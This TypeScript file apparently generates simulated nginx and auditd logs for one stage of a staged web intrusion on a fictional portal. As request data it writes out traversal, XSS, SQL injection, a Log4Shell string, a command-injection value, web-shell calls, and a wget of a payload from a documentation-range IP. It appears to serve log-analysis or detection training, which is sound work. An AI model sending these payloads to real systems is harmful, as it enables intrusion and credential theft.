import { hosts, outsiders, PORTAL } from './city.ts';
import { accessLine, auditLines, nginxError } from './formats.ts';
import { MINUTE, SECOND, type Script } from './step.ts';

const SCANNER = 'Mozilla/5.0 (compatible; Nikto/2.5.0)';
const SHELL = '/tai-len/2026/11/don-xin.php';

/** A request of the intruder: seconds after the stage began, and what came back. */
type Request = readonly [atS: number, request: string, status: number, bytes: number, agent?: string];

const PROBES: readonly Request[] = [
  [0, 'GET /cgi-bin/test.cgi HTTP/1.1', 404, 153, SCANNER],
  [9, 'GET /../../../../windows/win.ini HTTP/1.1', 400, 157, SCANNER],
  [21, 'GET /.git/config HTTP/1.1', 404, 153],
  [34, 'GET /tai-ve?tep=..%2F..%2Fcau-hinh.yml HTTP/1.1', 404, 153],
  [52, 'GET /tim?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1', 200, 8120],
  [77, 'GET /tra-cuu-ho-so?ma=1%27%20OR%201=1--%20 HTTP/1.1', 500, 611],
  [
    95,
    'GET /tra-cuu-ho-so?ma=1%20UNION%20ALL%20SELECT%20null,ten,mat_khau%20FROM%20nguoi_dung HTTP/1.1',
    200,
    9377,
  ],
  [126, 'GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.45%2Fa%7D HTTP/1.1', 200, 17_204],
  [150, 'GET /?trang=php://filter/convert.base64-encode/resource=cau-hinh HTTP/1.1', 200, 17_204],
  [183, 'GET /quan-tri/dang-nhap HTTP/1.1', 200, 4410],
];

/** What a scanner's list of words asks for; none of it is there. */
const WORDS = [
  'admin', 'api', 'backup', 'bak', 'beta', 'cache', 'config', 'data', 'db', 'demo', 'dev', 'download', 'export',
  'files', 'include', 'install', 'logs', 'new', 'old', 'private', 'setup', 'temp', 'test', 'upload',
]; // prettier-ignore
const WORD_SECONDS = 6;

const FINDS: readonly Request[] = [
  [0, 'GET /tai-ve?tep=../../../../etc/passwd HTTP/1.1', 200, 1893],
  [40, 'GET /cong-cu/.env HTTP/1.1', 200, 811],
  [75, 'GET /quan-tri/ping?host=127.0.0.1;id HTTP/1.1', 200, 377],
];

const COMMANDS: readonly (readonly [command: string, exe: string, ...argv: string[]])[] = [
  ['whoami', '/usr/bin/whoami', 'whoami'],
  ['uname%20-a', '/usr/bin/uname', 'uname', '-a'],
  ['cat%20/srv/portal/.env', '/usr/bin/cat', 'cat', '/srv/portal/.env'],
  [
    'wget%20http://192.0.2.45/linux%20-O%20/tmp/.sess',
    '/usr/bin/wget',
    'wget',
    'http://192.0.2.45/linux',
    '-O',
    '/tmp/.sess',
  ],
  ['sh%20-c%20%22chmod%20777%20/tmp/.sess%22', '/usr/bin/chmod', 'chmod', '777', '/tmp/.sess'],
];

/** Stage two: the portal is scanned, a hole is found, a web shell is uploaded and used. */
export function playWebIntrusion(script: Script): void {
  script.notice(19 * MINUTE, `${outsiders.intruder} looks for holes in ${PORTAL}.`);
  requests(script, 19 * MINUTE, PROBES);
  const missing = WORDS.map((word, index): Request => [
    index * WORD_SECONDS,
    `GET /${word}/ HTTP/1.1`,
    404,
    153,
  ]);
  requests(script, 22 * MINUTE + 30 * SECOND, missing);
  script.notice(25 * MINUTE, 'The portal gives away files.');
  requests(script, 25 * MINUTE, FINDS);
  script.notice(29 * MINUTE, 'A web shell is uploaded and runs commands.');
  requests(script, 29 * MINUTE, [
    [0, 'POST /ho-so/dinh-kem HTTP/1.1', 200, 96],
    [14, `POST ${SHELL} HTTP/1.1`, 200, 31],
  ]);
  commands(script, 30 * MINUTE);
}

function requests(script: Script, from: number, list: readonly Request[]): void {
  for (const [index, [atS, request, status, bytes, agent = 'curl/8.5.0']] of list.entries()) {
    const at = from + atS * SECOND;
    const time = script.timeOf(at);
    const client = outsiders.intruder;
    script.line(at, 'web-access', accessLine(time, { client, request, status, bytes, agent }));
    if (status !== 404) continue;
    const path = request.slice(request.indexOf('/'), -' HTTP/1.1'.length);
    const message = `open() "/srv/portal/public${path}" failed (2: No such file or directory)`;
    const context = `client: ${client}, server: ${PORTAL}, request: "${request}", host: "${PORTAL}"`;
    script.line(at, 'web-error', nginxError(time, 90_000 + index, { message, context }));
  }
}

/** Each command is a request in nginx's log and a process of `www-data` in auditd's. */
function commands(script: Script, from: number): void {
  for (const [index, [command, exe, ...argv]] of COMMANDS.entries()) {
    const at = from + index * 50 * SECOND;
    requests(script, at, [[0, `GET ${SHELL}?cmd=${command} HTTP/1.1`, 200, 40 + index * 13]]);
    const lines = auditLines(script.timeOf(at + 60), 88_120 + index, { exe, argv, pid: 22_310 + index });
    for (const line of lines) script.line(at + 60, 'web-audit', line);
  }
  script.notice(from + 5 * MINUTE, `From ${hosts.web.name} the intruder looks at the domain.`);
}
